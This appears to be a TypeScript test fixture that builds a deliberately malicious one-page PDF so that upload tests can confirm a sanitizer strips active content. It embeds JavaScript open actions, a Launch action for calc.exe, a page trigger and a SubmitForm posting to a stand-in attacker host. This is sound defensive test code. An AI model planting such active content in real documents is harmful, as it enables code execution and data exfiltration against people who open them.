// PDFs the upload tests send (not bundled: only tests import it).
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';

/**
 * A one-page PDF with every kind of active content the upload removes: a JavaScript /OpenAction, a /JavaScript name
 * tree, a /Launch link, a page /AA trigger and a /SubmitForm; and a harmless /URI link, which stays. Written without
 * object streams, so each name shows in the bytes.
 */
export async function maliciousPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText('Verslag', { x: 20, y: 150, size: 14 });
  const ctx = doc.context;
  const script = (js: string) => ctx.register(ctx.obj({ S: 'JavaScript', JS: PDFString.of(js) }));
  doc.catalog.set(PDFName.of('OpenAction'), script('app.alert("open")'));
  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({ JavaScript: ctx.obj({ Names: [PDFString.of('start'), script('app.alert("names")')] }) }),
  );
  const link = (action: Record<string, unknown>) =>
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: ctx.obj(action as never) }));
  page.node.set(
    PDFName.of('Annots'),
    ctx.obj([
      link({ S: 'Launch', F: PDFString.of('calc.exe') }),
      link({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }),
      link({ S: 'URI', URI: PDFString.of('https://www.example.nl/') }),
    ]),
  );
  page.node.set(PDFName.of('AA'), ctx.obj({ O: script('app.alert("page")') }));
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}
